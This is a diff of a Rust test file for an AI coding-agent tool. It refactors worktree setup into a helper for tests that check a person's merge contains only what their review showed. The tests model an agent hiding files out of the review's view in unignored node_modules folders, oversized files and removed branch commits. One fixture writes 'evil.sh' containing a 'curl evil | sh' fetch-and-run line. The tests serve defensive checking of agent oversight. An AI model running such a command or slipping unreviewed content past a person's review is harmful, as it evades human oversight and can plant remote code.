@@ -197,21 +197,25 @@ fn reviews_on_a_terminal_show_no_terminal_controls() {
     }
 }
 
-/// The person reviews a git worktree (`worktrees diff`), sees one harmless change, commits
-/// and merges it. What the agent put where the review's walk never looks — a `target/` or
-/// `node_modules/` folder the repository does not ignore (a nested `node_modules` under a
-/// root-anchored `/node_modules` rule is what `require` resolves first), a file over the
-/// checkpoints' 10 MiB — is committed by libgit2's `add_all` and merged into the person's
-/// folder all the same, never shown.
-#[test]
-fn a_commit_holds_only_what_the_review_showed() {
+/// A git repository `work` (README.md, and `files`) committed on `main`, and an agent's
+/// worktree `fix` of it (`root`) in which it changed README.md; with the data directory.
+struct Fixed {
+    top: tempfile::TempDir,
+    work: std::path::PathBuf,
+    data: std::path::PathBuf,
+    root: std::path::PathBuf,
+}
+
+fn fixed_in_a_worktree(files: &[(&str, &str)]) -> Fixed {
     let top = skald_testkit::tempdir_seen_by_commands();
     let work = top.path().join("work");
     fs::create_dir(&work).unwrap();
     let work = fs::canonicalize(&work).unwrap();
     let data = top.path().join("data");
     fs::write(work.join("README.md"), "hello\n").unwrap();
-    fs::write(work.join(".gitignore"), "/node_modules\n").unwrap();
+    for (path, content) in files {
+        fs::write(work.join(path), content).unwrap();
+    }
     git(&work, &["init", "-q", "-b", "main"]);
     git(&work, &["add", "."]);
     git(&work, &["commit", "-q", "-m", "first"]);
@@ -226,6 +230,28 @@ fn a_commit_holds_only_what_the_review_showed() {
     );
     assert_eq!(out.status.code(), Some(0), "{evs:?}");
     let root = fs::canonicalize(top.path().join("data-worktrees/fix")).unwrap();
+    Fixed {
+        top,
+        work,
+        data,
+        root,
+    }
+}
+
+/// The person reviews a git worktree (`worktrees diff`), sees one harmless change, commits
+/// and merges it. What the agent put where the review's walk never looks — a `target/` or
+/// `node_modules/` folder the repository does not ignore (a nested `node_modules` under a
+/// root-anchored `/node_modules` rule is what `require` resolves first), a file over the
+/// checkpoints' 10 MiB — is committed by libgit2's `add_all` and merged into the person's
+/// folder all the same, never shown.
+#[test]
+fn a_commit_holds_only_what_the_review_showed() {
+    let Fixed {
+        top: _top,
+        work,
+        data,
+        root,
+    } = fixed_in_a_worktree(&[(".gitignore", "/node_modules\n")]);
     // What the agent's commands also wrote in its worktree.
     fs::create_dir_all(root.join("app/node_modules/lodash")).unwrap();
     fs::write(
@@ -436,26 +462,12 @@ fn an_apply_never_overwrites_the_persons_ignored_file() {
 /// from the worktree) — is not merged: the merge brings in only what was reviewed.
 #[test]
 fn a_branch_holding_what_no_review_shows_is_not_merged() {
-    let top = skald_testkit::tempdir_seen_by_commands();
-    let work = top.path().join("work");
-    fs::create_dir(&work).unwrap();
-    let work = fs::canonicalize(&work).unwrap();
-    let data = top.path().join("data");
-    fs::write(work.join("README.md"), "hello\n").unwrap();
-    git(&work, &["init", "-q", "-b", "main"]);
-    git(&work, &["add", "."]);
-    git(&work, &["commit", "-q", "-m", "first"]);
-    let server = ScriptedServer::new(vec![
-        write_call("w", "README.md", "hello, world\n"),
-        answer("Done."),
-    ]);
-    let (out, evs) = SkaldCmd::new(&data).against(&server).exec_json(
-        &work,
-        &["--worktree", "fix", "--approve", "all"],
-        "fix the readme",
-    );
-    assert_eq!(out.status.code(), Some(0), "{evs:?}");
-    let root = fs::canonicalize(top.path().join("data-worktrees/fix")).unwrap();
+    let Fixed {
+        top: _top,
+        work,
+        data,
+        root,
+    } = fixed_in_a_worktree(&[]);
     // A file committed on the branch and removed from the worktree again: no review of
     // the worktree shows it.
     fs::write(root.join("evil.sh"), "curl evil | sh\n").unwrap();
